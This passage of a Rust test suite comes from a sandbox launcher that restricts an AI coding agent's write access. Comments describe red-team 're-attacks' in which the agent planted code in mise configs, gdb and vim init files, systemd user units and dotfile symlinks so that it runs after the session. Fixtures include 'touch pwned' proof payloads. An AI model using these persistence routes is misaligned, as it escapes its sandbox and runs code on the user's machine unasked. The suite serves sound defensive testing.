        .unwrap();
        std::os::unix::fs::symlink("dotfiles/vimrc", home.join(".vimrc")).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &temp_dir, &[]).unwrap();
        assert!(access.read_only.contains(&dotfiles), "{:?}", access.read_only);
    }

    /// The thirty-fifth re-attack's G15: what a start-up file reads in by a pattern, or by a name
    /// only running it tells, at the workspace's top (`~/dotfiles/*.sh`, `host-$(hostname).sh`, vim's
    /// `rtp^=~/dotfiles`): "that directory, whole" is the workspace, so all of it is read-only.
    #[test]
    fn a_workspace_read_in_by_a_pattern_or_an_unknown_name_at_its_top_is_read_only_whole() {
        let (_temp, home, _) = home_and_repo();
        let dotfiles = home.join("dotfiles");
        std::fs::create_dir_all(dotfiles.join(".git")).unwrap();
        let temp_dir = home.join("run/tmp");
        for (file, text) in [
            (".bashrc", "for f in ~/dotfiles/*.sh; do . \"$f\"; done\n"),
            (".bashrc", "source ~/dotfiles/host-$(hostname).sh\n"),
            (".vimrc", "set rtp^=~/dotfiles\n"),
        ] {
            for name in [".bashrc", ".vimrc"] {
                let _ = std::fs::remove_file(home.join(name));
            }
            std::fs::write(home.join(file), text).unwrap();
            let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &temp_dir, &[]).unwrap();
            assert!(access.read_only.contains(&dotfiles), "{text}: {:?}", access.read_only);
            assert!(access.notes.iter().any(|note| note.contains("by a pattern")), "{text}: {:?}", access.notes);
        }
        // A name in it, not the top: that directory only.
        std::fs::write(home.join(".vimrc"), "").unwrap();
        std::fs::write(home.join(".bashrc"), "source ~/dotfiles/os/$(uname -s).sh\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &temp_dir, &[]).unwrap();
        assert!(!access.read_only.contains(&dotfiles), "{:?}", access.read_only);
    }

    /// Sets of scopes looked through in one walk a directory: each set gets what its own names
    /// found in its own scopes, as a walk of its own would.
    #[test]
    fn sets_of_scopes_walked_once_get_their_own_files() {
        let temp = tempfile::tempdir().unwrap();
        let root = temp.path().to_path_buf();
        for file in ["a/.envrc", "a/b/.tool-versions", ".tool-versions", "x/.envrc", "a/mise/config.dev.toml"] {
            std::fs::create_dir_all(root.join(file).parent().unwrap()).unwrap();
            std::fs::write(root.join(file), "").unwrap();
        }
        let trusted = vec![(root.clone(), static_names(&[".envrc", "./mise/config.*.toml"]))];
        let versions =
            vec![(root.join("a"), static_names(&[".tool-versions"])), (root.clone(), static_names(&["*.toml"]))];
        let sets = trusted_files_of_sets(&[&trusted, &versions], None);
        let at = |files: &[&str]| files.iter().map(|file| root.join(file)).collect::<Vec<_>>();
        assert_eq!(sets[0].0, at(&["a/.envrc", "a/mise/config.dev.toml", "x/.envrc"]));
        assert_eq!(sets[1].0, at(&["a/b/.tool-versions", "a/mise/config.dev.toml"]));
        assert_eq!(sets, vec![trusted_files_told(&trusted), trusted_files_told(&versions)]);
    }

    /// A plain repository in a plain home: nothing said at launch. Stop 104 said each start-up
    /// name it keeps in every root and the agent's own directories, there or not (24 notes at
    /// every launch); one that is there is said.
    #[test]
    fn a_plain_workspace_has_nothing_said_at_launch() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git")).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert_eq!(access.notes, Vec::<String>::new());
        assert!(access.watched.contains(&repo.join(".gdbinit")), "{:?}", access.watched);
        std::fs::write(repo.join(".gdbinit"), "source x.py\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        let said = format!("{}, in what the agent may write", super::super::shown(&repo.join(".gdbinit")));
        assert!(access.notes.iter().any(|note| note.starts_with(&said)), "{:?}", access.notes);
    }

    /// The thirty-fourth re-attack's F11: `mise trust` of the project launched in, and the agent's
    /// `{{ exec(…) }}` in its `mise.toml` ran at the user's next prompt there. A trusted directory
    /// that is the workspace has mise's configs read-only there (and what they read in), or watched.
    #[test]
    fn the_configs_of_a_directory_mise_trusts_are_read_only_in_the_workspace() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git")).unwrap();
        std::fs::create_dir_all(repo.join("scripts")).unwrap();
        // G20: by `{{config_root}}` too.
        std::fs::write(
            repo.join("mise.toml"),
            "[env]\n_.source = \"./scripts/env.sh\"\n_.path = [\"{{config_root}}/tools\"]\n",
        )
        .unwrap();
        std::fs::create_dir_all(repo.join("tools")).unwrap();
        std::fs::write(repo.join("scripts/env.sh"), "export A=1\n").unwrap();
        let trust = home.join(".local/state/mise/trusted-configs");
        std::fs::create_dir_all(&trust).unwrap();
        std::os::unix::fs::symlink(&repo, trust.join("code-repo-5ccd23d9ac277034")).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for kept in ["mise.toml", "scripts/env.sh", "tools"] {
            assert!(access.read_only.contains(&repo.join(kept)), "{kept}: {:?}", access.read_only);
        }
        assert!(access.watched.contains(&repo.join("mise.local.toml")), "{:?}", access.watched);
        // H24: names without `./` (mise needs none), Tera's other spellings of `{{config_root}}`,
        // a table's `path`, a name after another template (its root, whole).
        std::fs::write(
            repo.join("mise.toml"),
            "[env]\n_.path = [\"bin\", \"{{- config_root -}}/bin2\"]\n_.source = [\"scripts/more.sh\", \
             \"{{config_root }}/etc/more.sh\"]\n_.python.venv = { path = \"py/.venv\", create = true }\n",
        )
        .unwrap();
        std::fs::create_dir_all(repo.join("bin")).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join("bin")), "{:?}", access.read_only);
        for watched in ["bin2", "scripts/more.sh", "etc/more.sh", "py/.venv"] {
            assert!(access.watched.contains(&repo.join(watched)), "{watched}: {:?}", access.watched);
        }
        std::fs::write(repo.join("mise.toml"), "[env]\n_.source = \"{{ env.TOOLS }}/x.sh\"\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo), "{:?}", access.read_only);
        // I7: a command run in the config's directory (a template's `exec`, a hook): all of it.
        for config in [
            "[env]\nGIT_SHA = \"{{ exec(command='sh scripts/v.sh') }}\"\n",
            "[hooks]\nenter = \"sh hooks/on-enter.sh\"\n",
            // K2: a watched file's `run`.
            "[[watch_files]]\npatterns = [\"package-lock.json\"]\nrun = \"npm install\"\n",
        ] {
            std::fs::write(repo.join("mise.toml"), config).unwrap();
            let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
            assert!(access.read_only.contains(&repo), "{config}: {:?}", access.read_only);
        }
        // J4: the config names mise has beyond `mise.toml`, their directories kept whole, what they
        // read in followed (a `conf.d` file's hook: the root, whole).
        std::fs::write(repo.join("mise.toml"), "").unwrap();
        std::fs::create_dir_all(repo.join(".config/mise/conf.d")).unwrap();
        std::fs::create_dir_all(repo.join("sub/.mise")).unwrap();
        std::fs::write(repo.join(".config/mise/config.local.toml"), "[env]\n_.source = \"scripts/local.sh\"\n")
            .unwrap();
        std::fs::write(repo.join("sub/.mise/config.local.toml"), "").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for kept in [".config/mise", "sub/.mise"] {
            assert!(access.read_only.contains(&repo.join(kept)), "{kept}: {:?}", access.read_only);
        }
        assert!(access.watched.contains(&repo.join("scripts/local.sh")), "{:?}", access.watched);
        std::fs::write(repo.join(".config/mise/conf.d/x.toml"), "[hooks]\nenter = \"sh hooks/e.sh\"\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo), "{:?}", access.read_only);
        std::fs::remove_dir_all(repo.join(".config")).unwrap();
        std::fs::remove_dir_all(repo.join("sub")).unwrap();
        std::fs::write(repo.join("mise.toml"), "[env]\n_.path = \"tools/{{ env.ARCH }}/bin\"\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join("tools")), "{:?}", access.read_only);
        assert!(!access.read_only.contains(&repo), "{:?}", access.read_only);
        std::fs::write(repo.join("mise.toml"), "").unwrap();
        // G6: an environment's config, there at launch, and one made in the session.
        std::fs::write(repo.join("mise.dev.toml"), "[env]\nA = \"1\"\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join("mise.dev.toml")), "{:?}", access.read_only);
        std::fs::write(repo.join(".mise.ci.toml"), "").unwrap();
        assert!(trusted_files_in(&access.trusted).contains(&repo.join(".mise.ci.toml")));
        // In a `mise/` directory (the thirty-ninth re-attack's reading): there at launch, read in;
        // made later, found.
        std::fs::create_dir_all(repo.join("mise")).unwrap();
        std::fs::write(repo.join("mise/config.dev.toml"), "[env]\n_.source = \"scripts/dev.sh\"\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join("mise/config.dev.toml")), "{:?}", access.read_only);
        assert!(access.watched.contains(&repo.join("scripts/dev.sh")), "{:?}", access.watched);
        std::fs::write(repo.join("mise/config.ci.local.toml"), "").unwrap();
        std::fs::write(repo.join("mise/notes.toml"), "").unwrap();
        let found = trusted_files_in(&access.trusted);
        assert!(found.contains(&repo.join("mise/config.ci.local.toml")), "{found:?}");
        assert!(!found.contains(&repo.join("mise/notes.toml")), "{found:?}");
        std::fs::remove_dir_all(repo.join("mise")).unwrap();
        // G6: `trusted_config_paths`, no link at all.
        std::fs::remove_file(trust.join("code-repo-5ccd23d9ac277034")).unwrap();
        std::fs::create_dir_all(home.join(".config/mise")).unwrap();
        let settings = format!("[settings]\ntrusted_config_paths = [\"{}\"]\n", repo.join("svc").display());
        std::fs::write(home.join(".config/mise/config.toml"), settings).unwrap();
        std::fs::create_dir_all(repo.join("svc")).unwrap();
        std::fs::write(repo.join("svc/mise.toml"), "").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join("svc/mise.toml")), "{:?}", access.read_only);
        assert!(!access.read_only.contains(&repo.join("mise.toml")), "not trusted now: {:?}", access.read_only);
        // N8: the setting in `conf.d/` instead (mise reads every file there as global settings).
        std::fs::remove_file(home.join(".config/mise/config.toml")).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(!access.read_only.contains(&repo.join("svc/mise.toml")), "not set now: {:?}", access.read_only);
        std::fs::create_dir_all(home.join(".config/mise/conf.d")).unwrap();
        let settings = format!("[settings]\ntrusted_config_paths = [\"{}\"]\n", repo.join("svc").display());
        std::fs::write(home.join(".config/mise/conf.d/trust.toml"), settings).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join("svc/mise.toml")), "{:?}", access.read_only);
    }

    /// The fortieth re-attack's L13: with mise's `env_file` setting on (its variable, or the
    /// global config's `[settings]`), mise loads that dotenv file in any directory without trust.
    /// Where the setting is on, the name is kept below every root: read-only where it is, moved
    /// aside where the agent made it. Where it is off, nothing is kept for it.
    #[test]
    fn the_dotenv_file_mises_settings_load_everywhere_is_kept() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git")).unwrap();
        std::fs::write(repo.join(".env"), "A=1\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(!access.read_only.contains(&repo.join(".env")), "the setting is off: {:?}", access.read_only);
        let mut with_variable = env(&home);
        with_variable.vars.insert(MISE_ENV_FILE.into(), ".env".into());
        let access = write_access(Agent::Claude, &with_variable, &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join(".env")), "{:?}", access.read_only);
        std::fs::create_dir_all(repo.join("svc")).unwrap();
        std::fs::write(repo.join("svc/.env"), "BASH_ENV=./x.sh\n").unwrap();
        assert!(trusted_files_in(&access.trusted).contains(&repo.join("svc/.env")));
        std::fs::create_dir_all(home.join(".config/mise")).unwrap();
        std::fs::write(home.join(".config/mise/config.toml"), "[settings]\nenv_file = \".env.local\"\n").unwrap();
        std::fs::write(repo.join(".env.local"), "A=1\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join(".env.local")), "{:?}", access.read_only);
        // The forty-second re-attack's N3: every other place mise takes the setting from.
        std::fs::remove_file(home.join(".config/mise/config.toml")).unwrap();
        let others = home.join("others");
        std::fs::create_dir_all(others.join("conf.d")).unwrap();
        for (file, variable, name) in [
            (home.join(".config/mise/conf.d/env.toml"), None, ".env.a"),
            (home.join(".config/mise/config.local.toml"), None, ".env.b"),
            (home.join(".config/mise/mise.toml"), None, ".env.c"),
            // The forty-third re-attack's P7: an environment's global config (under `MISE_ENV`).
            (home.join(".config/mise/config.dev.toml"), None, ".env.h"),
            (others.join("global.toml"), Some((MISE_GLOBAL_CONFIG_FILE, others.join("global.toml"))), ".env.d"),
            (others.join("conf.d/x.toml"), Some((MISE_CONFIG_DIR, others.clone())), ".env.e"),
            (others.join("config.toml"), Some((MISE_SYSTEM_CONFIG_DIR, others.clone())), ".env.f"),
            // A config in a directory above the workspace (one mise trusts carries settings).
            (home.join("code/mise.toml"), None, ".env.g"),
        ] {
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(&file, format!("[settings]\nenv_file = \"{name}\"\n")).unwrap();
            std::fs::write(repo.join(name), "A=1\n").unwrap();
            let mut env = env(&home);
            if let Some((variable, value)) = variable {
                env.vars.insert(variable.into(), value.display().to_string());
            }
            let access = write_access(Agent::Claude, &env, &repo, &[], &home.join("run/tmp"), &[]).unwrap();
            assert!(access.read_only.contains(&repo.join(name)), "{}: {:?}", file.display(), access.read_only);
            std::fs::remove_file(&file).unwrap();
        }
    }

    /// The thirty-fourth re-attack's F6: the user's own settings have gdb, vim and direnv run a
    /// project's start-up file from the directory they start in (`set auto-load safe-path /`, `set
    /// exrc`, a direnv whitelist), and the agent made one in the workspace. Those names are watched
    /// there (read-only where they exist).
    #[test]
    fn project_files_the_users_tools_are_told_to_trust_are_kept() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git")).unwrap();
        std::fs::create_dir_all(repo.join("svc/node_modules/x")).unwrap();
        std::fs::write(home.join(".gdbinit"), "set auto-load safe-path $HOME\n").unwrap();
        // G4: an abbreviation.
        std::fs::write(home.join(".vimrc"), "set nocompatible\nse ex\n").unwrap();
        std::fs::create_dir_all(home.join(".config/direnv")).unwrap();
        // G4: a TOML array over lines.
        let whitelist = format!(
            "[global]\nload_dotenv = true\n[whitelist]\nprefix = [\n  \"{}\",\n]\n",
            home.join("code").display()
        );
        std::fs::write(home.join(".config/direnv/direnv.toml"), whitelist).unwrap();
        std::fs::write(repo.join(".exrc"), "set ts=4\n").unwrap();
        // G3: below the top, there at launch.
        std::fs::write(repo.join("svc/.envrc"), "export A=1\n").unwrap();
        std::fs::write(repo.join("svc/node_modules/x/.envrc"), "export A=1\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for watched in [".gdbinit", ".nvim.lua", ".envrc", ".env"] {
            assert!(access.watched.contains(&repo.join(watched)), "{watched}: {:?}", access.watched);
        }
        for kept in [".exrc", "svc/.envrc"] {
            assert!(access.read_only.contains(&repo.join(kept)), "{kept}: {:?}", access.read_only);
        }
        // What the end of the session looks for: made anywhere below the top, dependencies not entered.
        std::fs::write(repo.join("svc/.gdbinit"), "shell touch pwned\n").unwrap();
        let found = trusted_files_in(&access.trusted);
        assert!(found.contains(&repo.join("svc/.gdbinit")) && found.contains(&repo.join("svc/.envrc")), "{found:?}");
        assert!(!found.contains(&repo.join("svc/node_modules/x/.envrc")), "{found:?}");
        // H30: a script gdb runs when it loads the program beside it, in build output too.
        std::fs::create_dir_all(repo.join("target/debug")).unwrap();
        std::fs::write(repo.join("target/debug/app-gdb.py"), "import os\n").unwrap();
        let found = trusted_files_in(&access.trusted);
        assert!(found.contains(&repo.join("target/debug/app-gdb.py")), "{found:?}");
        std::fs::remove_dir_all(repo.join("target")).unwrap();
        // I9: in a directory the walk does not enter, reached by a link in the scope.
        std::fs::create_dir_all(repo.join(".git/info/tools")).unwrap();
        std::fs::write(repo.join(".git/info/tools/.gdbinit"), "shell touch pwned\n").unwrap();
        std::os::unix::fs::symlink(".git/info/tools", repo.join("tools")).unwrap();
        let found = trusted_files_in(&access.trusted);
        let real = std::fs::canonicalize(repo.join(".git/info/tools")).unwrap().join(".gdbinit");
        assert!(found.contains(&real), "{found:?}");
        std::fs::remove_file(repo.join("tools")).unwrap();
        // J3: in the agent's own directory, where a link from the workspace leads.
        std::fs::create_dir_all(home.join(".claude/tools")).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        std::fs::write(home.join(".claude/tools/.exrc"), "call system('touch pwned')\n").unwrap();
        let found = trusted_files_in(&access.trusted);
        assert!(found.contains(&home.join(".claude/tools/.exrc")), "{found:?}");
        // Without those settings: the files gdb, vim and lldb run from where they start all the
        // same (I1, I2: their settings have too many spellings to tell), gdb's program scripts
        // and direnv's files not.
        for file in [".gdbinit", ".vimrc", ".config/direnv/direnv.toml"] {
            std::fs::remove_file(home.join(file)).unwrap();
        }
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.watched.contains(&repo.join(".gdbinit")) && access.read_only.contains(&repo.join(".exrc")));
        assert!(access.watched.contains(&repo.join(".lldbinit")) && !access.watched.contains(&repo.join(".envrc")));
        let loads_scripts =
            |access: &WriteAccess| access.trusted.iter().any(|(_, names)| names.iter().any(|name| name == "*-gdb.py"));
        assert!(!loads_scripts(&access), "{:?}", access.trusted);
        // H29, I1: gdb's setting in a file its config reads in, in other spellings, in a Python
        // block, in `gdbearlyinit`: its program scripts are kept, and what cannot be is said (I5).
        std::fs::create_dir_all(home.join(".gdb")).unwrap();
        std::fs::create_dir_all(home.join(".config/gdb")).unwrap();
        for (file, text) in [
            (".gdb/settings.gdb", "set auto-load safe-path /\n"),
            (".gdb/settings.gdb", "set  auto-load safe /\n"),
            (".gdb/settings.gdb", "set\tauto-load safe-path /\n"),
            (".gdb/settings.gdb", "python gdb.execute(\"set auto-load safe-path /\")\n"),
            (".config/gdb/gdbearlyinit", "set auto-load safe-path /\n"),
        ] {
            std::fs::write(home.join(".gdb/settings.gdb"), "").unwrap();
            std::fs::write(home.join(".gdbinit"), "source ~/.gdb/settings.gdb\n").unwrap();
            std::fs::write(home.join(file), text).unwrap();
            let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
            assert!(loads_scripts(&access), "{text:?}: {:?}", access.trusted);
            assert!(
                access.notes.iter().any(|note| note.contains("`.debug_gdb_scripts`") || note.contains("can carry one"))
            );
            let _ = std::fs::remove_file(home.join(".config/gdb/gdbearlyinit"));
        }
    }

    /// The thirty-fourth re-attack's F7: `~/.bashrc -> dotfiles/local/bashrc`, where `local` is a
    /// link the dotfiles repository keeps to pick a host's files: the agent pointed `local` at a
    /// directory of its own. A link on the way to a start-up file as it is named is kept; and a
    /// file read in at the end of a long chain is protected (F8: the fifth).
    #[test]
    fn links_on_the_way_to_a_start_up_file_are_kept_and_long_chains_are_followed() {
        let (_temp, home, _) = home_and_repo();
        let dotfiles = home.join("dotfiles");
        std::fs::create_dir_all(dotfiles.join(".git")).unwrap();
        std::fs::create_dir_all(dotfiles.join("hosts/laptop")).unwrap();
        std::fs::write(dotfiles.join("hosts/laptop/bashrc"), "source ~/dotfiles/a/1.sh\n").unwrap();
        std::os::unix::fs::symlink("hosts/laptop", dotfiles.join("local")).unwrap();
        std::os::unix::fs::symlink("dotfiles/local/bashrc", home.join(".bashrc")).unwrap();
        for (n, (from, to)) in [("a", "b"), ("b", "c"), ("c", "d"), ("d", "e"), ("e", "f")].iter().enumerate() {
            std::fs::create_dir_all(dotfiles.join(from)).unwrap();
            let next = format!("source ~/dotfiles/{to}/{}.sh\n", n + 2);
            std::fs::write(dotfiles.join(format!("{from}/{}.sh", n + 1)), next).unwrap();
        }
        std::fs::create_dir_all(dotfiles.join("f")).unwrap();
        std::fs::write(dotfiles.join("f/6.sh"), "alias l=ls\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(
            access.kept_links.contains(&(dotfiles.join("local"), PathBuf::from("hosts/laptop"))),
            "{:?}",
            access.kept_links
        );
        assert!(!access.read_only.contains(&dotfiles), "nothing here finds files by its own place");
        for kept in ["hosts/laptop/bashrc", "e/5.sh", "f/6.sh"] {
            assert!(access.read_only.contains(&dotfiles.join(kept)), "{kept}: {:?}", access.read_only);
        }
    }

    /// The twenty-first re-attack: with `~/.config` a link into the workspace and no
    /// `~/.config/systemd` there yet, the agent made a user unit that starts at login. What runs
    /// later is watched where it would appear, however many of its directories are missing.
    #[test]
    fn what_runs_later_is_watched_where_it_would_appear() {
        let (_temp, home, _) = home_and_repo();
        let dotfiles = home.join("dotfiles");
        std::fs::create_dir_all(dotfiles.join("config")).unwrap();
        std::fs::create_dir_all(dotfiles.join(".git")).unwrap();
        std::os::unix::fs::symlink("dotfiles/config", home.join(".config")).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &home.join("run/tmp"), &[]).unwrap();
        for watched in ["config/systemd", "config/autostart", "config/fish"] {
            assert!(access.watched.contains(&dotfiles.join(watched)), "{watched}: {:?}", access.watched);
        }
        // The twenty-second: the whole of what the home links into the workspace is read-only
        // (names no list has), and the names under `XDG_CONFIG_HOME` and `ZDOTDIR` where the
        // environment moves them, with no link at all.
        assert!(access.read_only.contains(&dotfiles.join("config")), "{:?}", access.read_only);
        std::fs::create_dir_all(dotfiles.join("xdg")).unwrap();
        let mut moved = env(&home);
        moved.vars.insert("XDG_CONFIG_HOME".into(), dotfiles.join("xdg").display().to_string());
        moved.vars.insert("ZDOTDIR".into(), dotfiles.join("zsh").display().to_string());
        // The twenty-third: every user unit directory (the data home's too), zsh's compiled twins
        // and dump, and fish's variables (its `PATH`).
        moved.vars.insert("XDG_DATA_HOME".into(), dotfiles.join("share").display().to_string());
        let access = write_access(Agent::Claude, &moved, &dotfiles, &[], &home.join("run/tmp"), &[]).unwrap();
        for watched in [
            "xdg/tmux",
            "xdg/direnv",
            "xdg/systemd",
            "xdg/fish",
            "share/systemd",
            "zsh/.zshrc",
            "zsh/.zshrc.zwc",
            "zsh/.zcompdump",
        ] {
            assert!(access.watched.contains(&dotfiles.join(watched)), "{watched}: {:?}", access.watched);
        }
        // The twenty-fifth: a moved `XDG_CONFIG_HOME` is read-only whole (names no list has yet).
        assert!(access.read_only.contains(&dotfiles.join("xdg")), "{:?}", access.read_only);
    }

    #[test]
    fn includes_are_read_within_a_budget() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        let fifty = "[include]\n\tpath = loop.inc\n".repeat(50);
        std::fs::write(repo.join(".git/config"), &fifty).unwrap();
        std::fs::write(repo.join(".git/loop.inc"), &fifty).unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.notes.iter().any(|note| note.contains("more than 256 git config files")), "{:?}", access.notes);
        assert!(access.read_only.contains(&repo.join(".git/loop.inc")));
    }

    /// The third re-attack of 2026-12-05 (the defences above, attacked): an include in the user's
    /// own config, the order of an include against a later setting, a script named without a `/`,
    /// a linked worktree inside the workspace, husky's scripts beside its stubs, and a hook
    /// runner's configuration.
    #[test]
    fn what_git_runs_is_found_where_git_finds_it() {
        let (_temp, home, repo) = home_and_repo();
        let git = |args: &[&str]| git_in(&repo, args);
        std::fs::create_dir_all(&repo).unwrap();
        if !git(&["init", "-q"]) || !git(&["commit", "-q", "--allow-empty", "-m", "init"]) {
            return; // no git here, so none of this would run
        }
        assert!(git(&["worktree", "add", "-q", ".worktrees/feat"]));
        let files = [
            ".husky/pre-commit",
            ".husky/_/pre-commit",
            ".githooks/pre-commit",
            ".team-hooks/pre-commit",
            "conv.py",
            "tools/bin2txt",
            ".worktrees/feat/tools/fsmon.sh",
            ".pre-commit-config.yaml",
        ];
        for file in files {
            std::fs::create_dir_all(repo.join(file).parent().unwrap()).unwrap();
            std::fs::write(repo.join(file), "").unwrap();
        }
        // pre-commit's installed hook, naming the interpreter of the project's own environment,
        // and a hook naming a script of the worktree (the fourth re-attack).
        let python = repo.join(".venv/bin/python3");
        std::fs::create_dir_all(python.parent().unwrap()).unwrap();
        std::fs::write(&python, "").unwrap();
        let hook = format!(
            "# File generated by pre-commit: https://pre-commit.com\nINSTALL_PYTHON={}\n./scripts/check-msg.sh \"$1\"\n",
            python.display()
        );
        std::fs::write(repo.join(".git/hooks/pre-commit"), hook).unwrap();
        std::fs::create_dir_all(repo.join("scripts")).unwrap();
        std::fs::write(repo.join("scripts/check-msg.sh"), "").unwrap();
        // The include sets one hooks path, the repository's own setting after it another: git
        // takes the later one.
        std::fs::write(repo.join(".git/team.inc"), "[core]\n\thooksPath = .team-hooks\n").unwrap();
        std::fs::write(
            repo.join(".git/config"),
            "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./tools/fsmon.sh\n[include]\n\tpath = team.inc\n\
             [core]\n\thooksPath = .githooks\n[diff \"py\"]\n\ttextconv = python3 conv.py\n",
        )
        .unwrap();
        // The user's own config includes one that names a program of the worktree.
        std::fs::write(home.join(".gitconfig"), "[include]\n\tpath = .gitconfig.d/tools\n").unwrap();
        std::fs::create_dir_all(home.join(".gitconfig.d")).unwrap();
        std::fs::write(home.join(".gitconfig.d/tools"), "[diff \"bin\"]\n\ttextconv = ./tools/bin2txt\n").unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        let read_only = [
            ".githooks",
            "conv.py",
            "tools/bin2txt",
            ".worktrees/feat/tools/fsmon.sh",
            ".pre-commit-config.yaml",
            ".venv/bin/python3",
            "scripts/check-msg.sh",
        ];
        for path in read_only {
            assert!(access.read_only.contains(&repo.join(path)), "{path}: {:?}", access.read_only);
        }
        assert!(access.read_only.contains(&repo.join(".worktrees/feat/.git")), "{:?}", access.read_only);
        assert!(!access.read_only.contains(&repo.join(".team-hooks")), "git does not use it: {:?}", access.read_only);

        // Husky: the stubs in `.husky/_` run the scripts beside them, with `node_modules/.bin`
        // first on PATH (which cannot be protected: the launch says so).
        std::fs::write(repo.join(".git/config"), "[core]\n\thooksPath = .husky/_\n").unwrap();
        std::fs::write(repo.join(".husky/_/h"), "export PATH=\"node_modules/.bin:$PATH\"\nsh -e \"$s\" \"$@\"\n")
            .unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for path in [".husky/_", ".husky"] {
            assert!(access.read_only.contains(&repo.join(path)), "{path}: {:?}", access.read_only);
        }
        assert!(access.notes.iter().any(|note| note.contains("node_modules/.bin first on PATH")), "{:?}", access.notes);
    }

    #[test]
    fn the_home_is_never_the_workspace() {
        let temp = tempfile::tempdir().unwrap();
        let home = std::fs::canonicalize(temp.path()).unwrap().join("home");
        // A dotfiles repository in the home: the home is still not a workspace.
        std::fs::create_dir_all(home.join(".git")).unwrap();
        std::fs::create_dir_all(home.join("notes")).unwrap();
        for cwd in [home.clone(), PathBuf::from("/")] {
            let access = write_access(Agent::Pi, &env(&home), &cwd, &[], &home.join("run/tmp"), &[]).unwrap();
            assert_eq!(access.workspace, None, "{}", cwd.display());
            assert!(!access.writable.iter().any(|path| home.starts_with(path)), "{:?}", access.writable);
            assert!(access.notes[0].contains("holds your home directory"), "{:?}", access.notes);
            assert!(access.pinned.is_empty(), "the dotfiles repository is not the agent's");
        }
        // Below the home, the directory itself is the workspace (not the home's repository).
        let access =
            write_access(Agent::Pi, &env(&home), &home.join("notes"), &[], &home.join("run/tmp"), &[]).unwrap();
        assert_eq!(access.workspace, Some(home.join("notes")));
        let error =
            write_access(Agent::Pi, &env(&home), &home.join("notes"), &[home.clone()], &home.join("run/tmp"), &[])
                .unwrap_err();
        assert!(error.to_string().contains("--writable") && error.to_string().contains("hint:"), "{error}");
    }

    /// N5: a `--writable` path the launcher resolved that resolves elsewhere by the time the
    /// allow-list is made (a directory swapped for a link) is granted neither way; a directory the
    /// allow-list creates for the agent is granted by its canonical path (the helper follows no
    /// link), as under a `HOME` whose path holds one (`/home -> /var/home`).
    #[test]
    fn a_writable_path_changed_since_it_was_resolved_is_refused_and_every_grant_is_canonical() {
        let temp = tempfile::tempdir().unwrap();
        let real = std::fs::canonicalize(temp.path()).unwrap();
        let (home, repo, outside) = (real.join("home"), real.join("repo"), real.join("outside"));
        for dir in [&home, &repo, &outside] {
            std::fs::create_dir_all(dir).unwrap();
        }
        std::os::unix::fs::symlink(&outside, repo.join("swapped")).unwrap();
        let error = write_access(Agent::Pi, &env(&home), &repo, &[repo.join("swapped")], &real.join("tmp"), &[])
            .unwrap_err()
            .to_string();
        assert!(error.contains("leads to") && error.contains("now, after it was looked at"), "{error}");
